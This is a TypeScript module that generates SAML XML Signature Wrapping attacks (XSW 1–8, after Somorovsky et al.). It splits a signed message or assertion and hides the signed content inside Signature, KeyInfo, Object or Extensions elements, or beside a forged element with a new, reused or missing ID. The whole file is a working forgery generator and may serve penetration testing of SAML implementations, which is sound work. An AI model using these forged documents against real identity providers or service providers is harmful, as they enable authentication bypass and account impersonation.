/** @module XML signature wrapping: the eight known ways to hide a signed element and show another, for any message. */

/** One attack: its name and the forged document. */
export interface Attack {
  readonly name: string
  readonly xml: string
}

const signaturePattern = /<ds:Signature[\s\S]*?<\/ds:Signature>/

/** A signed element in its pieces. */
interface Pieces {
  /** With its signature. */
  readonly whole: string
  /** Without it. */
  readonly bare: string
  readonly signature: string
}

function takeApart(whole: string): Pieces {
  const signature = signaturePattern.exec(whole)?.[0]
  if (signature === undefined) throw new Error('nothing is signed')
  return { whole, signature, bare: whole.replace(signature, '') }
}

const inside = (signature: string, content: string) =>
  signature.replace('</ds:Signature>', `${content}</ds:Signature>`)
const insideKeyInfo = (signature: string, content: string) =>
  inside(signature, `<ds:KeyInfo>${content}</ds:KeyInfo>`)
/** Behind the issuer, where a signature stands. */
const afterIssuer = (element: string, content: string) =>
  element.replace('</saml:Issuer>', () => `</saml:Issuer>${content}`)
const asFirst = (element: string, content: string) => element.replace('>', () => `>${content}`)
function asLast(element: string, content: string): string {
  const end = element.lastIndexOf('</')
  return element.slice(0, end) + content + element.slice(end)
}
const extensions = (content: string) => `<samlp:Extensions>${content}</samlp:Extensions>`

/** The eight, for an element that becomes the child of a forged one, or the other way round. */
function eight({ whole, bare, signature }: Pieces, evil: string): readonly string[] {
  return [
    afterIssuer(evil, inside(signature, bare)),
    asLast(afterIssuer(evil, signature), bare),
    asFirst(evil, whole),
    asLast(evil, whole),
    asFirst(afterIssuer(evil, signature), bare),
    afterIssuer(evil, insideKeyInfo(signature, bare)),
    afterIssuer(evil, extensions(whole)),
    afterIssuer(evil, inside(signature, `<ds:Object>${bare}</ds:Object>`)),
  ]
}

/** The forged copy: other content, and an ID that is new, the same, or not there. */
function forgeries(bare: string, forge: (element: string) => string): readonly (readonly [string, string])[] {
  const forged = forge(bare)
  return [
    ['new ID', forged.replace(/ ID="[^"]*"/, ' ID="_evil"')],
    ['same ID', forged],
    ['no ID', forged.replace(/ ID="[^"]*"/, '')],
  ]
}

/**
 * XSW 1 to 8 on a message whose root is signed. `forge` changes what matters in it.
 * Source: Somorovsky et al., "On Breaking SAML", 2012.
 */
export function wrapMessage(signed: string, forge: (element: string) => string): readonly Attack[] {
  const pieces = takeApart(signed)
  return forgeries(pieces.bare, forge).flatMap(([kind, evil]) =>
    eight(pieces, evil).map((xml, index) => ({ name: `XSW${index + 1}, ${kind}`, xml })),
  )
}

/** XSW 1 to 8 on the signed assertion of a response that is not signed itself, nested and side by side. */
export function wrapAssertion(response: string, forge: (element: string) => string): readonly Attack[] {
  const whole = /<saml:Assertion[\s\S]*<\/saml:Assertion>/.exec(response)?.[0] ?? ''
  const pieces = takeApart(whole)
  const put = (content: string) => response.replace(whole, () => content)
  return forgeries(pieces.bare, forge).flatMap(([kind, evil]) => {
    const nested = eight(pieces, evil)
    const beside = [
      pieces.whole + evil,
      evil + pieces.whole,
      afterIssuer(evil, pieces.signature) + pieces.bare,
      pieces.bare + afterIssuer(evil, pieces.signature),
      extensions(evil) + pieces.whole,
      extensions(pieces.whole) + evil,
      afterIssuer(evil, inside(pieces.signature, pieces.bare)) + pieces.bare,
      `<saml:EncryptedAssertion>${evil}</saml:EncryptedAssertion>${pieces.whole}`,
    ]
    return [
      ...nested.map((content, index) => ({ name: `XSW${index + 1} nested, ${kind}`, xml: put(content) })),
      ...beside.map((content, index) => ({ name: `XSW${index + 1} beside, ${kind}`, xml: put(content) })),
    ]
  })
}
